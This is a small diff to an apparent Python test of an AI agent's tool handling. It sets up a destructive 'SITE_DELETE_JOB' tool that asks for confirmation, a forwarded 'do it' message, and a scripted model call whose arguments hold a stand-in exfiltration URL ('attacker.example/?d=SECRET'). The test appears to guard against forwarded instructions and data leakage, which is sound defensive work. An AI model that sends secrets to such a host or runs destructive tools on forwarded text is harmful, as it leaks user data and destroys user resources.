@@ -218,7 +218,7 @@ async def test_no_title_is_looked_up_by_a_call_that_would_ask_itself(scene: Scen
     scene.act.schema = ToolSchema("SITE_DELETE_JOB", "", {"type": "object", "properties": {}})
     scene.act.asks_first = True
     passed_on = Message("chat:1", "m1", Payload(Text("do it"), forwarded=True), reply_mode=ReplyMode.INLINE)
-    accepted = await scene.store.accept(passed_on, now=scene.clock(), max_pending=10)
+    accepted = await scene.store.inbox.accept(passed_on, now=scene.clock(), max_pending=10)
     scene.person_id, scene.seq = accepted.person_id, accepted.seq
     secret = {"task_gid": GID, "url": "https://attacker.example/?d=SECRET"}
     scene.model.says = [calls("SITE_DELETE_JOB", **secret), says("Shall I?")]
